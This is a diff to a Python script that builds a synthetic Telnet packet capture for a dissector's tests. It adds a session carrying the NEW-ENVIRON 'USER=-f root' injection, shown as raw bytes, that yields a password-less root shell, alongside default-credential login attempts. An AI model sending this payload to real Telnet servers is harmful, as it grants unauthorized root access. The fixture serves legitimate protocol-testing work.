@@ -1,7 +1,7 @@
 #!/usr/bin/env python3
 """Writes telnet-synthetic.pcap: three Telnet sessions built to RFC 854
 (TCP handshake with correct sequence numbers, IAC option negotiation with a
-subnegotiation, banner, login prompts, a remote-echo client typing one
+subnegotiation, banner, a NEW-ENVIRON "-f root" injection, login prompts, a remote-echo client typing one
 character per segment, failed and successful logins, teardown), for the
 telnet dissector's tests. No capture in pcaps/ holds Telnet.
 
@@ -127,6 +127,15 @@ def main():
     for user, pw in (("admin", "admin"), ("root", "1234")):
         c.c(user + "\r\n"); c.s(user + "\r\nPassword: ")
         c.c(pw + "\r\n"); c.s("\r\nLogin incorrect\r\nrtu7 login: ")
+    t = c.close()
+    # 4. The NEW-ENVIRON "-f root" injection: USER passed to login as an option, a root shell without a password.
+    c = Conn(frames, t + 1, [10, 0, 0, 13], [10, 0, 0, 33], 50403, 23)
+    c.s(neg((DO, 39)))
+    c.c(neg((WILL, 39)))
+    c.s(bytes([IAC, SB, 39, 1, IAC, SE]))
+    c.c(bytes([IAC, SB, 39, 0, 0]) + b"USER" + bytes([1]) + b"-f root" + bytes([IAC, SE]))
+    c.s("\r\nLinux gw-old 2.6.32 #1 SMP\r\n\r\nroot@gw-old:~# ")
+    c.c("id\r\n"); c.s("id\r\nuid=0(root) gid=0(root)\r\nroot@gw-old:~# ")
     t = c.close()
     out = os.path.join(HERE, "telnet-synthetic.pcap")
     with open(out, "wb") as f:
